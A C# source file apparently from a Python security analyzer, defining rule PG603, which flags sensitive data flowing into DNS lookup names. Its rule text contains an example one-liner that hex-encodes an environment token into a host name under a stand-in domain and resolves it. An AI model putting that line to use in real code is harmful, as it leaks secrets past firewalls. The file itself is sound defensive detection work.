using System.Collections.Immutable;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Exfil;

/// <summary>PG603: sensitive data hidden inside a host name that is looked up.</summary>
public sealed class DnsExfiltration : Analyzer
{
    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG603", "DNS exfiltration", "sensitive data ({0}) is put into a host name looked up by {1}",
        RuleCategory.Exfil, Severity.Error, Confidence.High, 9.0, [200, 201],
        whatItDoes: "Reports sensitive data (see PG601 for the sources and how they are followed) that ends up inside the name given to a DNS lookup: `socket.gethostbyname`, `gethostbyname_ex`, `getaddrinfo`, and dnspython's `dns.resolver.resolve`/`query` and `dns.message.make_query` — typically hex- or base32-encoded and cut into labels of an attacker's zone.",
        why: "Every lookup of `<data>.attacker-zone.example` travels through the resolvers to the attacker's name server, even from machines that may not open any other connection. It is the classic channel for leaking secrets past firewalls and egress filters.",
        example: "import os, socket\nsocket.gethostbyname(os.environ['TOKEN'].encode().hex()[:60] + '.x.example.net')",
        instead: "Look up only the host names the task needs, written as constants.",
        safeExample: "import socket\naddress = socket.gethostbyname('example.org')",
        "https://attack.mitre.org/techniques/T1048/003/");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterNodeAction(Analyze, NodeKind.ExprCall);

    private static void Analyze(NodeContext context)
    {
        var call = (ExprCall)context.Node;
        if (NetworkCalls.Find(context.Model, call) is not { Role: NetworkRole.Resolve, Endpoint: { } name } lookup)
        {
            return;
        }

        var taints = TaintFlows.Find(context.Model, [name], TaintFlows.IsContent);
        if (taints.Count > 0)
        {
            TaintFlows.Report(context, Descriptor, taints, $"{lookup.Function} sends the name to the DNS servers", null, TaintFlows.Describe(taints), lookup.Function);
        }
    }
}
